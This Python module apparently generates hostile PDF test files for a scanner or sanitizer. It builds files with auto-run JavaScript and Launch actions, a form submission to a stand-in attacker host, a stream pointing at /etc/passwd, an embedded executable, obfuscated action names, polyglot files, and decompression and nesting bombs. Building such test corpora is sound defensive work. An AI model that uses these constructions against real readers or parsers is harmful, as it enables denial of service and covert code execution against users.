"""PDFs that act, hide something, are locked, or would take all memory and time."""

import base64
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from io import BytesIO
from typing import Any

import pikepdf
from hostile.others import GOOD
from pikepdf import Array, Dictionary, Name, Pdf, String

ACTIONS: Mapping[str, Mapping[str, Any]] = {
    "JavaScript": {"JS": String("app.alert(1)")},
    "Launch": {"F": String("calc.exe")},
    "SubmitForm": {"F": String("http://evil.example")},
    "ImportData": {"F": String("evil.fdf")},
    "GoToR": {"F": String("other.pdf"), "D": Array([0, Name.Fit])},
    "GoToE": {"T": Dictionary(R=Name.C, N=String("x"))},
    "Rendition": {"OP": 0},
    "Movie": {"T": String("x")},
    "Sound": {"Volume": 1},
    "RichMediaExecute": {"CMD": Dictionary(C=String("x"))},
    "Hide": {"T": String("x")},
}


def files() -> Iterator[tuple[str, bytes]]:
    """Each by its name."""
    yield from _acting()
    yield from _hiding()
    yield from _locked()
    yield from _damaged()
    yield from _of_two_kinds()
    yield from _twisted()


def bombs() -> Iterator[tuple[str, bytes]]:
    """Those that take a while to make."""
    yield from _exhausting()
    yield from _packed_objects()


def _changed(change: Callable[[Pdf], object], **how: Any) -> bytes:
    with pikepdf.open(BytesIO(GOOD["PDF"])) as document:
        change(document)
        content = BytesIO()
        document.save(content, **how)
    return content.getvalue()


# Acting


def _at_opening(document: Pdf, action: pikepdf.Object) -> None:
    document.Root.OpenAction = action


def _by_itself(document: Pdf, action: pikepdf.Object) -> None:
    document.Root.OpenAction = document.make_indirect(action)


def _of_the_document(document: Pdf, action: pikepdf.Object) -> None:
    document.Root.AA = Dictionary(WC=action)


def _of_a_page(document: Pdf, action: pikepdf.Object) -> None:
    document.pages[0].obj.AA = Dictionary(O=action)


def _of_a_link(document: Pdf, action: pikepdf.Object) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    document.pages[0].obj.Annots = Array([document.make_indirect(link)])


def _of_a_bookmark(document: Pdf, action: pikepdf.Object) -> None:
    entry = document.make_indirect(Dictionary(Title=String("x"), A=action))
    document.Root.Outlines = document.make_indirect(Dictionary(First=entry, Last=entry, Count=1))


def _after_another(document: Pdf, action: pikepdf.Object) -> None:
    first = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=Array([action]))
    document.Root.OpenAction = first


def _deep_inside(document: Pdf, action: pikepdf.Object) -> None:
    for _ in range(50):
        action = Array([Dictionary(X=action)])
    document.Root.Deep = action


PLACES = {
    "at opening": _at_opening,
    "at opening, as an object of its own": _by_itself,
    "of the document": _of_the_document,
    "of a page": _of_a_page,
    "of a link": _of_a_link,
    "of a bookmark": _of_a_bookmark,
    "after another action": _after_another,
    "deep inside": _deep_inside,
}


def _acting() -> Iterator[tuple[str, bytes]]:
    for kind, more in ACTIONS.items():
        for where, put in PLACES.items():
            action = Dictionary(S=Name(f"/{kind}"), **more)
            yield f"{kind} {where}", _changed(partial(put, action=action))
    packed = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    for kind in ("JavaScript", "Launch"):
        action = Dictionary(S=Name(f"/{kind}"), **ACTIONS[kind])
        yield f"{kind} in a packed object", _changed(partial(_by_itself, action=action), **packed)
    for names in (b"/S /J#61vaScript /J#53", b"/#53 /JavaScript /#4a#53", b"/S /#4a#61#76#61Script /X"):
        yield f"a script behind {names.decode()}", raw(_catalogue(b"/X << " + names + b" (x) >>"))
    yield "a script in the names", _changed(_named_script)
    yield "a script in a field of a form", _changed(_field)


def _named_script(document: Pdf) -> None:
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))


def _field(document: Pdf) -> None:
    format_ = Dictionary(F=Dictionary(S=Name.JavaScript, JS=String("x")))
    field = document.make_indirect(Dictionary(FT=Name.Tx, T=String("x"), AA=format_))
    document.Root.AcroForm = Dictionary(Fields=Array([field]))


# Hiding


def _annotation(subtype: str) -> Callable[[Pdf], None]:
    def add(document: Pdf) -> None:
        shown = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 9, 9]))
        document.pages[0].obj.Annots = Array([document.make_indirect(shown)])

    return add


def _attached(document: Pdf) -> None:
    document.attachments["evil.exe"] = b"MZ"


def _form_in_xml(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def _portfolio(document: Pdf) -> None:
    document.Root.Collection = Dictionary(Type=Name.Collection)


def _elsewhere(document: Pdf) -> None:
    stream = document.make_stream(b"")
    stream.F = String("/etc/passwd")
    document.Root.Elsewhere = stream


def _postscript(document: Pdf) -> None:
    document.Root.Program = document.make_stream(b"quit", Dictionary(Type=Name.XObject, Subtype=Name.PS))


def _hiding() -> Iterator[tuple[str, bytes]]:
    for subtype in ("/RichMedia", "/FileAttachment", "/Movie", "/Sound", "/Screen", "/3D"):
        yield f"an annotation {subtype}", _changed(_annotation(subtype))
    yield "a file inside", _changed(_attached)
    yield "a form in XML", _changed(_form_in_xml)
    yield "a portfolio", _changed(_portfolio)
    yield "a stream of another file", _changed(_elsewhere)
    yield "a program in PostScript", _changed(_postscript)


def _locked() -> Iterator[tuple[str, bytes]]:
    for revision, aes in ((2, False), (3, False), (4, True), (6, True)):
        for user in ("", "secret"):
            lock = pikepdf.Encryption(owner="owner", user=user, R=revision, aes=aes, metadata=aes)  # type: ignore[arg-type]
            opened = "without a password" if not user else "with a password"
            yield (
                f"a PDF locked as revision {revision}, opened {opened}",
                _changed(lambda document: None, encryption=lock),
            )


# Damaged


def _damaged() -> Iterator[tuple[str, bytes]]:
    whole = GOOD["PDF"]
    for share in (4, 3, 2):
        yield f"a PDF cut off after a part of {share}", whole[: len(whole) // share]
    yield "a PDF without its end", whole[:-8]
    yield "the beginning of a PDF", b"%PDF-1.7\n"
    yield "the beginning and the end of a PDF", b"%PDF-1.7\n%%EOF\n"
    yield "a PDF whose table is elsewhere", whole.replace(b"startxref\n", b"startxref\n9")
    yield "a PDF of version 9", whole.replace(b"%PDF-1.", b"%PDF-9.", 1)
    yield "a PDF without a version", whole.replace(b"%PDF-1.3", b"%PDF-xxx", 1)
    yield "a PDF without a catalogue", raw(b"<< /Type /Nothing >>")
    yield "a PDF without pages", raw(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")
    yield "zeros in a PDF", b"%PDF-1.7\n" + bytes(5000) + b"\n%%EOF\n"


def _of_two_kinds() -> Iterator[tuple[str, bytes]]:
    whole = GOOD["PDF"]
    archive = b"PK\x05\x06" + bytes(18)
    yield "a PDF, then an archive", whole + archive
    yield "a PDF, then an archive, then its end", whole + archive + b"\n%%EOF\n"
    yield "a PDF, then a program", whole + b"MZ\x90\x00" + bytes(2000)
    yield "a PDF, then a page", whole + b"<html><script>alert(1)</script></html>"
    yield "a PDF, then a program, then its end", whole + b"MZ\x90\x00" + bytes(100) + b"\n%%EOF\n" + b"x"
    for tag in (b"<script>", b"<html>", b"<!DOCTYPE html>", b"<svg onload=x>", b"<iframe>", b"< body>"):
        head, _, rest = whole.partition(b"\n")
        yield f"a PDF with {tag.decode()} in its first comment", head + b"\n%" + tag + b"\n" + rest


# Exhausting


def _stream(content: bytes, filters: list[str]) -> Callable[[Pdf], None]:
    def add(document: Pdf) -> None:
        names = Array([Name(f"/{each}") for each in filters])
        document.Root.Bomb = pikepdf.Stream(document, content, Dictionary(Filter=names))

    return add


def _many(number: int, make: Callable[[int], Any]) -> Callable[[Pdf], None]:
    def add(document: Pdf) -> None:
        document.Root.Many = Array([document.make_indirect(make(each)) for each in range(number)])

    return add


def _pages(document: Pdf) -> None:
    for _ in range(50):
        document.pages.append(document.pages[0])


def _bombs(document: Pdf) -> None:
    packed = zlib.compress(bytes(20_000_000), 9)
    streams = [pikepdf.Stream(document, packed, Dictionary(Filter=Name.FlateDecode)) for _ in range(30)]
    document.Root.Bombs = Array([document.make_indirect(each) for each in streams])


def _picture(document: Pdf) -> None:
    entries = Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=100_000, Height=100_000, BitsPerComponent=1)
    document.Root.Picture = document.make_stream(b"", entries)


def _exhausting() -> Iterator[tuple[str, bytes]]:
    once = zlib.compress(bytes(300_000_000), 9)
    plain = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}
    for filters, content in (
        (["FlateDecode"], once),
        (["Fl"], once),
        (["FlateDecode"] * 2, zlib.compress(once, 9)),
        (["FlateDecode"] * 20, once),
        (["ASCIIHexDecode", "ASCII85Decode", "RunLengthDecode", "FlateDecode"], once),
        (["LZWDecode", "FlateDecode"], once),
    ):
        yield f"a bomb behind {' '.join(filters)}", _changed(_stream(content, filters), **plain)
    yield (
        "a bomb behind letters",
        _changed(_stream(base64.a85encode(once) + b"~>", ["ASCII85Decode", "FlateDecode"]), **plain),
    )
    yield (
        "a bomb behind digits",
        _changed(_stream(once.hex().encode() + b">", ["ASCIIHexDecode", "FlateDecode"]), **plain),
    )
    yield "a stream that LZW packed", _changed(_stream(b"\x80\x0b\x60\x50", ["LZWDecode"]), **plain)
    yield "a picture of 10,000 million pixels", _changed(_picture)
    yield "thirty bombs that are small", _changed(_bombs, **plain)
    yield "a PDF of 51 pages", _changed(_pages)
    yield "a PDF of 20,100 objects", _changed(_many(20_100, lambda each: Dictionary(X=each)))
    packed = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    yield "a PDF of 20,100 packed objects", _changed(_many(20_100, lambda each: Dictionary(X=each)), **packed)
    yield "a PDF of 400,000 numbers", raw(_catalogue(b"/X [" + b"0 " * 400_000 + b"]"))
    yield "a PDF of a million names", raw(_catalogue(b"".join(b"/N%d 0 " % each for each in range(400_000))))
    yield "a PDF of 200,000 small lists", raw(_catalogue(b"/X [" + b"[[0]]" * 200_000 + b"]"))
    for depth in (600, 50_000, 1_000_000):
        yield f"lists {depth} deep", raw(_catalogue(b"/X " + b"[" * depth + b"]" * depth))
        yield f"dictionaries {depth} deep", raw(_catalogue(b"/X " + b"<</X " * depth + b"0" + b">>" * depth))


def _catalogue(more: bytes) -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + more + b" >>"


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"


def raw(root: bytes, pages: bytes = PAGES, page: bytes = PAGE, *more: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, the catalogue first, with a correct table."""
    content, places = b"%PDF-1.7\n", []
    for number, each in enumerate((root, pages, page, *more), 1):
        places.append(len(content))
        content += b"%d 0 obj\n" % number + each + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % each for each in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    last = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n"
    return content + head + table + last % (len(places) + 1, trailer, len(content))


# Twisted


def _twisted() -> Iterator[tuple[str, bytes]]:
    ok = _catalogue(b"")
    yield "pages that are their own children", raw(ok, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")
    yield (
        "two pages that hold each other",
        raw(
            ok,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>",
        ),
    )
    yield "a table before itself", raw(ok, trailer=b"/Prev 9")
    yield "a catalogue that is a reference to itself", raw(b"1 0 R")
    yield "a stream that is as long as itself", raw(ok, PAGES, PAGE, b"<< /Length 4 0 R >>\nstream\nx\nendstream")
    yield "a stream that is longer than the file", raw(ok, PAGES, PAGE, b"<< /Length 99999999 >>\nstream\nx\nendstream")
    yield "a script behind its end", _behind_its_end()
    yield (
        "packed objects in themselves",
        _referring(b"<< /Type /ObjStm /N 1 /First 4 /Extends 4 0 R /Length 8 >>\nstream\n4 0 (x)\nendstream"),
    )


def _packed_objects() -> Iterator[tuple[str, bytes]]:
    unpacked = zlib.compress(b"1 0 " * 50_000_000, 9)
    head = b"<< /Type /ObjStm /N 9 /First 20 /Filter /FlateDecode /Length %d >>\nstream\n"
    yield "a bomb of packed objects", _referring(head % len(unpacked) + unpacked + b"\nendstream")
    digits = unpacked.hex().encode()
    twice = head.replace(b"/FlateDecode", b"[/ASCIIHexDecode /FlateDecode]") % len(digits) + digits + b"\nendstream"
    yield "a bomb of packed objects behind digits", _referring(twice)
    yield "a bomb of packed objects under another name", _referring(twice.replace(b"/ObjStm", b"/Obj#53tm"))


def _behind_its_end() -> bytes:
    """A change that was saved behind the first end, as editors do; it is the change that counts."""
    whole = raw(_catalogue(b""))
    root = b"1 0 obj\n" + _catalogue(b"/OpenAction << /S /JavaScript /JS (x) >>") + b"\nendobj\n"
    table = b"xref\n1 1\n%010d 00000 n \n" % len(whole)
    before = whole.rindex(b"xref\n0 ")
    last = b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (before, len(whole) + len(root))
    return whole + root + table + last


def _referring(packed: bytes) -> bytes:
    """A PDF whose table is packed, and says that its catalogue is in a packed object."""
    content, places = b"%PDF-1.7\n", []
    for number, each in ((2, PAGES), (3, PAGE), (4, packed)):
        places.append(len(content))
        content += b"%d 0 obj\n" % number + each + b"\nendobj\n"
    entries = [b"\0\0\0\0\xff", b"\x02\0\0\x04\0", *(b"\1" + place.to_bytes(3, "big") + b"\0" for place in places)]
    table = b"".join([*entries, b"\1" + len(content).to_bytes(3, "big") + b"\0"])
    head = b"5 0 obj\n<< /Type /XRef /W [1 3 1] /Size 6 /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    return content + head + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(content)
